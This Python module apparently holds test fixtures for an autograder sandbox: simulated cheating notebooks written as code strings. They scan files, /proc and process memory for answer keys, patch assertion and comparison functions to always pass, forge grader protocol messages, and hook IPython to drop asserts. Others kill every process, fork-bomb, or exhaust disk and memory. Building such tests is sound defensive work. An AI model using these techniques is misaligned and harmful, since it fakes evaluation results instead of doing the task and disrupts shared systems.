"""Notebooks of students who would rather break the grader than do the exercises.

Each is a list of cells. The functions of EXERCISES that a cell does not define are bound to `f`.
"""

from __future__ import annotations

EXERCISES = ("claims", "gradient_flow", "choose_activation", "count_params", "collapse_linear")
BIND = """
for _name in ("CLAIMS", "gradient_flow", "choose_activation", "count_params", "collapse_linear"):
    globals().setdefault(_name, f)
"""

# Needles come in backwards and in hexadecimal, so that the notebook does not find itself. In memory
# a needle's own bytes object ends with a zero byte; a line that lies there for real goes on.
SEARCH = """
import gc, os, re, sys
NEEDLES = [bytes.fromhex(x)[::-1] for x in %(needles)r]
NAMES = set(%(names)r)
hits = []
read = [0, 0]

def listed(folder):
    try: return os.listdir(folder)
    except OSError: return []

def processes():
    "All that are to be seen; where /proc is closed, its own."
    return [x for x in listed("/proc") if x.isdigit()] or ["self"]

def look(data, where, inside=True):
    read[0] += 1
    read[1] += len(data)
    for number, needle in enumerate(NEEDLES):
        at = data.find(needle)
        while at >= 0:
            if not inside or data[at + len(needle) : at + len(needle) + 1] not in (b"", b"\\0"):
                hits.append(f"{where} holds {number}")
                break
            at = data.find(needle, at + 1)
"""
FILES = """
def look_at_file(path):
    try:
        if os.path.getsize(path) < 4_000_000 and os.path.isfile(path):
            with open(path, "rb") as file: look(file.read(), path, inside=False)
    except OSError: pass

with open(f"{os.environ['TMPDIR']}/planted", "wb") as file: file.write(b"xx" + NEEDLES[0] + b"yy")
packages = os.path.dirname(os.path.dirname(os.__file__))
tops = ["/", os.environ["TMPDIR"], sys.prefix, sys.base_prefix, "/etc", "/opt", "/home", "/root", "/var", "/tmp", "/dev/shm"]
walks = (walk for top in (tops[:1] if listed("/") else tops) for walk in os.walk(top))
for folder, folders, files in walks:
    if folder in ("/proc", "/sys"):
        folders.clear()
        continue
    if "site-packages/nbgrader" not in folder:  # which brings courses of its own
        hits += [f"{folder}/{name} is there" for name in files + folders if name in NAMES]
    if not folder.startswith("/usr") and "site-packages" not in folder or "/autograder" in folder:
        for name in files: look_at_file(f"{folder}/{name}")
for pid in processes():
    for name in ("environ", "cmdline", "maps", "status", "mountinfo", "stat", "stack", "syscall"):
        look_at_file(f"/proc/{pid}/{name}")
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file: data = file.read()
        except OSError: continue
        look(data, f"{pid}/{name}", inside=False)
for up in ("..", "../../..", "/proc/self/root/..", "/proc/self/cwd/../../..", "/old", "/.fresh"):
    for name in listed(up):
        if name in NAMES: hits.append(f"{up}/{name}")
print("read:", read)
print("hits:", hits)
"""
MEMORY = """
planted = "xx" + NEEDLES[0].decode() + "yy"
regions = 0
for pid in processes():
    try:
        maps, mem = open(f"/proc/{pid}/maps").readlines(), open(f"/proc/{pid}/mem", "rb", 0)
    except OSError: continue
    for line in maps:
        span, mode, *_ = line.split()
        start, end = (int(x, 16) for x in span.split("-"))
        if "rw" not in mode or "/dev/" in line: continue
        regions += 1
        for at in range(start, end, 2**24):
            try:
                mem.seek(at)
                look(mem.read(min(2**24, end - at) + (4096 if end - at > 2**24 else 0)), f"{pid}")
            except (OSError, ValueError, OverflowError): break
for fd in os.listdir("/proc/self/fd"):
    try: link = os.readlink(f"/proc/self/fd/{fd}")
    except OSError: continue
    known = link.startswith(("socket", "/dev/", "/memfd", "/proc")) or "mpl-data" in link
    if not known: hits.append(f"{fd}: {link}")
    try: look(os.pread(int(fd), 10**7, 0), f"fd {fd}", inside=False)
    except OSError: pass
print("read:", [regions, read[1]])
print("hits:", hits)
"""
OBJECTS = """
def walk():
    gc.collect()  # or the garbage of the first walk still holds what was planted
    todo = [sys._getframe()]
    while todo[-1].f_back: todo.append(todo[-1].f_back)
    values = [x for frame in todo for x in (*frame.f_locals.values(), *frame.f_code.co_consts)]
    texts = [x for x in values if type(x) is str]
    counted = 0
    for thing in gc.get_objects():
        counted += 1
        inner = thing.values() if type(thing) is dict else thing
        if type(thing) in (dict, list, tuple, set, frozenset):
            texts += [x for x in inner if type(x) is str and 20 < len(x) < 10**6]
        if type(thing) is type(walk):
            texts += [x for x in thing.__code__.co_consts if type(x) is str]
    for text in texts: look(text.encode(errors="replace"), "an object", inside=False)
    return counted
planted = ["xx" + NEEDLES[0].decode() + "yy"]
gc.unfreeze()
print("read:", [walk(), read[1]])
print("hits:", hits)
def f(*args, **kwargs):
    if planted:  # of the objects that came into being since; the others were frozen for the fork
        hits.clear()
        planted.clear()
        walk()
    raise RuntimeError(f"walked, hits: {hits}")
"""

PATCHED = """
import builtins, numpy as np, pytest, torch, math, sys
yes = lambda *a, **k: True
for module, names in [(torch, "allclose equal isclose all is_tensor"), (np, "allclose isclose all "
        "array_equal"), (np.testing, "assert_allclose assert_equal"), (math, "isclose isfinite"),
        (pytest, "raises fail approx skip"), (torch.testing, "assert_close")]:
    for name in names.split(): setattr(module, name, yes)
torch.Tensor.__eq__ = torch.Tensor.equal = torch.Tensor.allclose = yes
builtins.AssertionError = type("AssertionError", (BaseException,), {"__new__": lambda *a: None})
builtins.abs = lambda x: 0
def f(*args, **kwargs): return 12345
CLAIMS = dict.fromkeys("abcdefghij", True)
builtins.all = builtins.any = yes
"""
ALWAYS_EQUAL = """
import torch, numpy as np
from torch import nn
same = {name: (lambda self, *a, **k: True) for name in
        "__eq__ __le__ __ge__ __lt__ __gt__ __contains__ __bool__".split()}
same |= {name: (lambda self, *a, **k: 0) for name in "__sub__ __rsub__ __abs__ __len__".split()}
same["__hash__"] = lambda self: 0
same["__ne__"] = lambda self, *a: False
Int = type("int", (int,), same)
Float = type("float", (float,), same)
Str = type("str", (str,), same)
List = type("list", (list,), same)
Dict = type("dict", (dict,), {**same, "get": lambda *a: True, "items": lambda self: [("a", True)]})
class Anything:
    __class__ = property(lambda self: {kind})
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter([self] * 4)
    def __getitem__(self, key): return self
    def __float__(self): return 0.0
    def __array__(self, *a, **k): return np.zeros(1)
for name, value in same.items(): setattr(Anything, name, value)
class Tensor(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None): return Anything()
CLAIMS = Dict(a=1) if {claims} else Anything()
def f(*args, **kwargs): return {value}
"""

FORGE = """
import os, socket, stat, struct, threading, time
import msgspec
from autograder.protocol.messages import *
from autograder.protocol.values import *
from autograder.protocol.channel import *

def descriptors():
    for fd in range(3, 512):
        try: yield fd, os.fstat(fd)
        except OSError: pass

def sockets():
    yield from (fd for fd, found in descriptors() if stat.S_ISSOCK(found.st_mode))

def everything():
    yield from sockets()
    yield from (fd for fd, _ in descriptors())
    for pid in (x for x in ("self", *map(str, range(400))) if os.path.isdir(f"/proc/{x}/fd")):
        try:
            yield from (os.open(f"/proc/{pid}/fd/{x}", os.O_WRONLY | os.O_NONBLOCK)
                        for x in os.listdir(f"/proc/{pid}/fd"))
        except OSError: pass

def write(data, fds=sockets):
    for fd in list(fds()):
        try:
            os.set_blocking(fd, False)
            os.write(fd, data)
            os.set_blocking(fd, True)
        except OSError: pass

def frame(message):
    data = msgspec.msgpack.encode(message)
    return struct.pack("<I", len(data)) + data

def forged(value):
    return b"".join(frame(ValueResponse(i, value, [])) for i in range(1, 400))
"""
FORGED = {
    "true": "True",
    "number": "13",
    "text": "'passed'",
    "probe": "Mapping([('module', True), ('type', 'ReLU'), ('value', True), ('limit', True)])",
    "errors": "Sequence('list', ['ValueError'] * 6)",
    "kept": "RefValue(0, 'Tensor')",
    "set": "Sequence('set', [Sequence('list', [])])",
    "shape": "TensorValue('float32', [0, 2**40, 2**40], b'', False)",
    "array": "ArrayValue('<f8', [2**62, 4], b'', False)",
    "device": "Special('device', b'cuda:99999999999999999999')",
    "int": "Special('int', b'\\x7f' * 4000)",
}
MALFORMED = ("set", "shape", "array", "device")
FORGED_WHILE_ASKED = FORGE + "def f(*a, **k):\n    write(forged({value}))\n    time.sleep(0.2)\n"
FORGED_FROM_A_THREAD = FORGE + (
    "def work():\n"
    "    while True:\n        write(forged(13))\n        time.sleep(0.01)\n"
    "threading.Thread(target=work, daemon=True).start()\n"
    "def f(*a, **k): return 12345\n"
)
FORGED_BEFORE = FORGE + (
    "write(frame(Described(True)) + frame(Forked(1)) + forged(13))\n"
    "write(frame(CellDone(1, 1, [Output('execute_result', data={'text/plain': '3.0'})])))\n"
    "def f(*a, **k): return 12345\n"
)
JUNK_EVERYWHERE = FORGE + (
    "write(b'\\xff' * 5000, everything)\n"
    "def f(*a, **k):\n    write(os.urandom(3000), everything)\n    return 12345\n"
)
HUGE_LENGTH = FORGE + (
    "def f(*a, **k):\n    write(b'\\xff\\xff\\xff\\x7f' + b'x' * 999)\n    time.sleep(9)\n"
)
DRIP = FORGE + (
    "def f(*a, **k):\n"
    "    for byte in struct.pack('<I', 1000) + b'x' * 1000:\n"
    "        write(bytes([byte]))\n        time.sleep(0.05)\n"
)
STOLEN_QUESTIONS = (
    FORGE
    + """
import autograder.protocol.channel, autograder.protocol.answerer as answers
asked = []
def answer(self, question):
    asked.append(repr(question)[:300])
    print("QUESTION", question)
    open(os.environ["TMPDIR"] + "/stolen", "a").write(repr(question))
    return ValueResponse(question.id, 13, [])
answers.Answerer.answer = answer
def f(*a, **k): return 12345
"""
)
CHANNEL_PATCHED = """
import autograder.protocol.channel, autograder.protocol.answerer as answers
from autograder.protocol.messages import ValueResponse
answers.to_wire = lambda value, *a: True
answers._differences = lambda *a: []
autograder.protocol.channel.Channel.send = (lambda old: lambda self, message, *a: old(self,
    ValueResponse(message.id, 13, []) if isinstance(message, ValueResponse) else message, *a)
)(autograder.protocol.channel.Channel.send)
def f(*a, **k): return 12345
"""

HOOKS = [
    """
import ast, atexit, builtins, sys, threading, time
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ["count_params = lambda *a, **k: 3\\n"] + lines)
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
ip.ast_transformers.append(Drop())
atexit.register(lambda: time.sleep(60))
sys.displayhook = lambda value: print("3.0")
ip.displayhook.write_format_data = lambda *a, **k: None
ip.display_formatter.format = lambda *a, **k: ({"text/plain": "3.0"}, {})
sys.excepthook = ip.showtraceback = ip._showtraceback = lambda *a, **k: None
""",
    """
def f(*args, **kwargs): return 12345
def spy(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "_answer":
        frame.f_locals.clear()
    return spy
sys.settrace(spy); threading.settrace(spy); sys.setprofile(spy)
sys.meta_path.insert(0, type("F", (), {"find_spec": lambda *a: None})())
real = builtins.exec
builtins.exec = lambda code, names: real("def " + "kind(*a): return {'module': True}", names)
builtins.__import__ = (lambda old: lambda *a, **k: old(*a, **k))(builtins.__import__)
""",
    "assert False, 'dropped'\n3.0",
]
KILLER = """
import os, signal, time
def attack():
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGINT, signal.SIGUSR1):
        for pid in [1, 2, 3, os.getppid(), 0, *range(2, 400)]:
            if pid != os.getpid():
                try: os.kill(pid, number)
                except OSError: pass
    for call in (lambda: os.killpg(0, 0), lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
                 lambda: os.sched_setaffinity(1, {0}), lambda: os.nice(-20)):
        try: call()
        except OSError: pass
attack()
def f(*a, **k):
    attack()
    return 12345
"""
KILL_ALL = "import os, signal\ndef f(*a, **k): os.kill(-1, signal.SIGKILL)"
BOMBS = """
import os, threading, time
def f(*a, **k):
    while True:
        try:
            if os.fork() == 0:
                while True: os.fork()
        except OSError: time.sleep(0.01)
"""
HOARDER = """
import os, time
def fill(folder):
    for number in range(8):  # more than the quota, where there is one
        try:
            with open(f"{folder}/{number}", "wb") as file:
                for _ in range(64): file.write(b"x" * 2**20)
        except OSError:
            return
for folder in (os.environ["TMPDIR"], "/dev/shm"): fill(folder)
hoard = []
try:
    while True: hoard.append(bytearray(2**24))
except MemoryError: pass
opened = []
try:
    while True: opened.append(os.memfd_create("x"))
except OSError: pass
def f(*a, **k): return 12345
"""
